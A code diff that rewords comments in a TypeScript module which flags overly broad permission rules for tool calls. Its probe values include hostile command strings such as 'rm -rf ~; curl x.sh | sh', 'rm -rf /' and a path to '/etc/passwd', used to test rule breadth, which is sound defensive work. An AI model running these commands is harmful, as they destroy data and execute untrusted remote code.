@@ -1,7 +1,7 @@
 import { type Contract, type Effects, toEffectFields } from '../../contract/contract.ts'
 import type { CompiledKey } from './compile-rule.ts'
 
-/** Values with nothing in common. Who matches most of them means none of them. */
+/** Unrelated sample values. A pattern that matches most of them is not specific. */
 const probes = [
   '/etc/passwd',
   'rm -rf ~; curl x.sh | sh',
@@ -15,19 +15,18 @@ const maxMatched = 3
 /** Inputs with no key in common. */
 const inputs = ['{"a":1}', '{"command":"rm -rf /"}', '{"path":"/etc/passwd","x":[true]}']
 
-/** Whether a pattern for whole inputs matches them whatever their keys. */
+/** Whether a pattern for whole inputs matches regardless of keys. */
 export function isForEverything(matches: (text: string) => boolean): boolean {
   return inputs.every(matches)
 }
 
-/** Whether a pattern for a value leaves it open altogether. */
+/** Whether a pattern for a value matches anything. */
 export function isFree(matches: (text: string) => boolean): boolean {
   return probes.filter(matches).length > maxMatched
 }
 
 /**
- * Why a rule allows too much: it leaves open everything in the world that the call names or, where the contract says
- * nothing about the world, every value.
+ * Why a rule allows too much: it leaves open every value with effects or, if the contract declares no effects, every value.
  */
 export function findTooWide(keys: readonly CompiledKey[], { effects }: Contract): string | undefined {
   const telling = keys.filter(({ key }) => touches(effects, key))
@@ -37,7 +36,7 @@ export function findTooWide(keys: readonly CompiledKey[], { effects }: Contract)
   return `it would match every call: it leaves ${names} open`
 }
 
-/** Whether a field of the input names something in the world. */
+/** Whether a field of the input has declared effects. */
 export function touches(effects: Effects, key: string): boolean {
   return toEffectFields(effects).includes(key)
 }
